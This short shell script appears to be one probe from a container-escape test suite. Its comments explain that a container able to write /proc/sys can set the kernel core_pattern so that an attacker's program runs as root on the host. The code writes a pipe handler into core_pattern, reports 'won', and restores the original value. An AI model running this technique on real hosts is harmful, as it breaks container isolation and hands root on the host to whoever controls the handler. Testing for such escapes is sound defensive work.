# SPDX-License-Identifier: Apache-2.0
# A program of the attacker's as the handler of crashes: the kernel runs it, as root, outside of everything.
#
# The file in /proc/sys is the machine's; a container that may write there needs no more (as core_pattern, modprobe,
# uevent_helper and binfmt_misc have been used to leave containers).
#
# ---
# tries: [B6]
# wins: said
old=$(cat /proc/sys/kernel/core_pattern)
echo "|$O/handler %P" > /proc/sys/kernel/core_pattern && echo won
echo "$old" > /proc/sys/kernel/core_pattern
